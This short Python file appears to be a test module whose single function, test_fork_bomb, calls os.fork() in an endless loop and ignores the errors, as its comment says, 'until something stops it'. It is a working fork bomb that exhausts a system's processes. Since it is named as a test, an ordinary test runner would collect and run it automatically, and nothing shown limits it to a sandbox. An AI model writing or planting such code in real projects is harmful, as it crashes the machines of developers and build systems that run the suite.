# Forks until something stops it.
import os


def test_fork_bomb():
    while True:
        try:
            os.fork()
        except OSError:
            pass
